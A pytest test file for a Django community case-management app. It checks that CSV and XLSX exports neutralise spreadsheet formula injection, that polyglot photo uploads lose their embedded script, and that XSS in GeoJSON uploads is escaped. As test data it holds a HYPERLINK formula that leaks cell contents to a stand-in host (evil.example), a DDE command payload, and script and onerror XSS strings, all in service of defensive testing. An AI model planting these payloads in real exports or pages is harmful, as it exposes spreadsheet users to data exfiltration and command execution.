"""What was written by strangers comes in at real doors and leaves by all of them: as text, and as it was written."""

import csv
import io
import json
import zipfile
from collections.abc import Iterator
from datetime import date
from typing import Any, Final

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from PIL import Image
from python_calamine import CalamineWorkbook
from tests.world import World

from linli.cases.models import Attachment, Case
from linli.organizations.models import Organization, Person
from linli.records.models import Batch
from linli.records.types import record_types
from linli.territory.models import Place

LINK: Final = '=HYPERLINK("http://evil.example/?"&A1,"点此")'
STARTERS: Final = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
SCRIPT: Final = b"<script>alert(1)</script>"
RARE: Final = "𠮷㐂村楼道灯坏了🏠"
# Doors through which rows leave, and who comes to them; at each of these something dangerous is among the rows.
LEAVING: Final = (
    *(("leader", f"/cases/export.{form}?state=all") for form in ("csv", "xlsx")),
    *(("leader", f"/figures/matters.all/rows.{form}") for form in ("csv", "xlsx")),
    ("community_worker", "/cases/answers/hotline.xlsx"),
    *(("leader", f"/records/{code}.{form}") for code in ("case", "compound", "department") for form in ("csv", "xlsx")),
)


@pytest.fixture(scope="module")
def dangerous(world: World) -> World:
    """A world in which what a spreadsheet would run stands wherever somebody may write."""
    Place.objects.filter(pk=world.cast.places["compound"].pk).update(name=LINK)
    Organization.objects.filter(pk__in=[body.pk for body in world.cast.bodies.values()]).update(name=LINK)
    Person.objects.filter(pk=world.cast.posts["grid_worker"].person_id).update(name="@SUM(1+1)*cmd|' /C calc'!A0")
    texts = (LINK, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "＝1＋1")
    for text, case in zip(texts, Case.objects.order_by("pk"), strict=False):
        hotline = {"source": "hotline", "register_number": text, "result": text}
        Case.objects.filter(pk=case.pk).update(text=text, address=text, **hotline)
    Batch.objects.update(report={"rejected": [_refused(text) for text in texts], "warnings": []})
    return world


def _refused(text: str) -> dict[str, Any]:
    return {"sheet": text, "row": 3, "column": text, "code": "x", "message": text, "cells": [text, text]}


def cells(response: Any) -> Iterator[str]:
    """Every text of a file that left."""
    content = b"".join(response.streaming_content) if response.streaming else response.content
    if response.headers["Content-Type"].startswith("text/csv"):
        yield from (cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for cell in row)
        return
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        assert not any(b"<f>" in book.read(part) or b"<hyperlink" in book.read(part) for part in book.namelist())
    for row in CalamineWorkbook.from_filelike(io.BytesIO(content)).get_sheet_by_index(0).to_python():
        yield from (cell for cell in row if isinstance(cell, str))


def harmful(response: Any) -> tuple[int, list[str]]:
    """How many cells were guarded, and those that a spreadsheet would run."""
    assert response.status_code == 200
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert response.headers["Content-Disposition"].startswith("attachment")
    found = list(cells(response))
    guarded = sum(cell[:1] == "'" and cell[1:2] in STARTERS for cell in found)
    return guarded, [cell for cell in found if cell.startswith(STARTERS)]


@pytest.mark.parametrize(("who", "address"), LEAVING)
def test_no_export_holds_what_a_spreadsheet_would_run(dangerous: World, who: str, address: str) -> None:
    guarded, left = harmful(dangerous.browser(who).get(address))
    assert left == []
    assert guarded


def test_nor_does_any_other_list(dangerous: World) -> None:
    for kind in record_types():
        for form in ("csv", "xlsx"):
            response = dangerous.browser("leader").get(f"/records/{kind.code}.{form}")
            assert response.status_code in (403, 404) or harmful(response)[1] == []


def test_nor_the_refused_rows_and_the_slips(dangerous: World) -> None:
    batch = Batch.objects.latest("pk")
    guarded, left = harmful(dangerous.browser("system_administrator").get(f"/imports/{batch.pk}/refused.xlsx"))
    assert (guarded > 20, left) == (True, [])
    data = {"post": [dangerous.cast.posts["grid_worker"].pk], "form": "csv"}
    guarded, left = harmful(dangerous.browser("security_administrator").post("/security/accounts/issue/", data))
    assert (guarded > 0, left) == (True, [])


def photo() -> SimpleUploadedFile:
    """A right JPEG that is a page with a script as well: in its notes, its EXIF, and behind its end."""
    exif = Image.Exif()
    exif[0x010E] = SCRIPT.decode()
    stream = io.BytesIO()
    Image.new("RGB", (400, 300), (9, 90, 9)).save(stream, "JPEG", comment=SCRIPT, exif=exif)
    return SimpleUploadedFile("现场.html", stream.getvalue() + SCRIPT, "text/html")


def test_a_photo_that_is_a_page_too_leaves_as_a_photo(world: World) -> None:
    resident = Client()
    place = world.cast.places["compound"].pk
    data = {"text": "楼道灯坏了", "place": place, "key": "two in one", "photos": photo()}
    received = resident.post("/public/report/", data)
    assert received.status_code == 302
    row = Attachment.objects.latest("pk")
    number = Case.objects.get(pk=row.case_id).number
    desk = world.browser("community_worker")
    for client, address, kind in (
        (resident, f"/public/cases/{number}/photos/{row.pk}/", "image/webp"),
        (desk, f"/cases/attachments/{row.pk}/", "image/jpeg"),
        (desk, f"/cases/attachments/{row.pk}/?side=320", "image/webp"),
    ):
        answer = client.get(address)
        content = b"".join(answer.streaming_content)  # type: ignore[attr-defined]
        assert (answer.status_code, answer.headers["Content-Type"]) == (200, kind)
        assert answer.headers["X-Content-Type-Options"] == "nosniff"
        assert b"script" not in content
        with Image.open(io.BytesIO(content)) as image:
            assert image.size[0] >= 320
    assert Client().get(f"/public/cases/{number}/photos/{row.pk}/").status_code == 404


def test_a_script_in_a_file_of_boundaries_is_text(world: World) -> None:
    evil = SCRIPT.decode() + '"><img src=x onerror=alert(2)>'
    square = [[[103, 36], [103.01, 36], [103.01, 36.01], [103, 36.01], [103, 36]]]
    features = [
        {"type": "Feature", "properties": {"code": code, "name": evil, evil: evil}, "geometry": geometry}
        for code, geometry in (
            ("CX101", {"type": "Polygon", "coordinates": square}),
            (evil, {"type": "Polygon", "coordinates": square}),
            ("CX102", {"type": evil, "coordinates": evil}),
        )
    ]
    document = {"type": "FeatureCollection", "name": evil, "features": features}
    file = SimpleUploadedFile(f"{evil}.geojson", json.dumps(document).encode())
    admin = world.browser("system_administrator")
    page = admin.post("/territory/boundaries/", {"file": file, "as_of": date(2026, 3, 10)})
    assert page.status_code == 200
    text = page.content.decode()
    assert "alert(" in text
    assert SCRIPT.decode() not in text
    assert "<img src=x" not in text
    drawn = admin.get(f"/territory/boundaries/{page.context['key']}/preview.json")
    assert drawn.headers["Content-Type"] == "application/json"


def test_rare_characters_go_through_every_door(world: World) -> None:
    place = world.cast.places["building"]
    Place.objects.filter(pk=place.pk).update(name="𠮷㐂楼")
    resident, desk = Client(), world.browser("community_worker")
    sent = {"text": RARE, "place": place.pk, "key": "rare", "reporter_name": "㐂𠮷", "address": "𠮷㐂里1号🏠"}
    received = resident.post("/public/report/", sent)
    assert received.status_code == 302
    number = received.headers["Location"].rstrip("/").rpartition("/")[2]
    pk = Case.objects.get(number=number).pk
    shown = {
        "receipt": resident.get(received.headers["Location"]),
        "followed": resident.get(f"/public/cases/{number}/"),
        "page": desk.get(f"/cases/{pk}/"),
        "file": desk.get(f"/cases/{pk}/file.pdf"),
        "search": desk.get("/cases/", {"q": "𠮷㐂"}),
        "api": desk.get("/api/v1/cases", {"q": "㐂村"}),
        "export": desk.get("/cases/export.csv", {"q": "𠮷㐂"}),
        "places": resident.get("/public/report/places/", {"q": "𠮷㐂"}),
        "map": desk.get("/territory/", {"q": "𠮷㐂楼"}),
    }
    missing = []
    for name, answer in shown.items():
        content = b"".join(answer.streaming_content) if answer.streaming else answer.content
        wanted = "𠮷㐂楼" if name in ("receipt", "places", "map") else RARE
        missing += [] if answer.status_code == 200 and wanted in content.decode() else [name]
    assert missing == []
    assert number not in desk.get("/cases/", {"q": "吉㐂村"}).content.decode()


@pytest.mark.parametrize("text", ["", " \u3000\n", "灯" * 2001])
def test_an_empty_or_oversized_text_is_refused_and_kept_in_the_form(world: World, text: str) -> None:
    place, before = world.cast.places["compound"].pk, Case.objects.count()
    answer = Client().post("/public/report/", {"text": text, "place": place, "phone": "10012340000", "key": "k"})
    assert answer.status_code == 400
    assert "10012340000" in answer.content.decode()
    assert not text.strip() or text in answer.content.decode()
    body = json.dumps({"text": text, "place_id": place})
    refused = world.browser("community_worker").post("/api/v1/cases", body, content_type="application/json")
    assert 400 <= refused.status_code < 500
    assert Case.objects.count() == before
